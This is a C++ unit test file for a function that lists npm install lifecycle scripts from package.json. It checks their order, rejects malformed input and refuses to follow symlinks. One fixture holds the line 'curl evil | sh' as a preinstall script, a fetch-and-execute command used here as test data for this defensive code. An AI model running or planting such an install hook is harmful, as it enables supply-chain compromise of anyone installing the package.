#include "bundle/builder.h"

#include <filesystem>
#include <fstream>

#include <gtest/gtest.h>
#include <unistd.h>

namespace gust::bundle {
namespace {

namespace fs = std::filesystem;

class LifecycleScriptsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() / ("gust-builder-test-" + std::to_string(::getpid()));
    fs::remove_all(dir_);
    fs::create_directories(dir_);
  }
  void TearDown() override { fs::remove_all(dir_); }
  std::string write(const std::string& name, const std::string& text) {
    std::ofstream(dir_ / name) << text;
    return (dir_ / name).string();
  }
  fs::path dir_;
};

TEST_F(LifecycleScriptsTest, ListsTheInstallScriptsInTheOrderNpmRunsThem) {
  auto path = write("package.json", R"({"scripts": {"test": "jest", "postinstall": "node b.js",
                                       "preinstall": "curl evil | sh", "prepare": "tsc"}})");
  EXPECT_EQ(npmLifecycleScripts(path),
            (std::vector<std::string>{"preinstall: curl evil | sh", "postinstall: node b.js",
                                      "prepare: tsc"}));
}

TEST_F(LifecycleScriptsTest, NoneForAPackageWithoutScriptsOrNotJson) {
  EXPECT_TRUE(npmLifecycleScripts(write("a.json", R"({"name": "x"})")).empty());
  EXPECT_TRUE(npmLifecycleScripts(write("b.json", "not json")).empty());
  EXPECT_TRUE(npmLifecycleScripts(write("c.json", std::string(200000, '['))).empty());
}

// The server reads the tenant's package.json as root: never through a symlink to a host file.
TEST_F(LifecycleScriptsTest, DoesNotFollowASymlink) {
  auto target = write("elsewhere.json", R"({"scripts": {"preinstall": "secret"}})");
  fs::create_symlink(target, dir_ / "package.json");
  EXPECT_TRUE(npmLifecycleScripts((dir_ / "package.json").string()).empty());
}

}  // namespace
}  // namespace gust::bundle
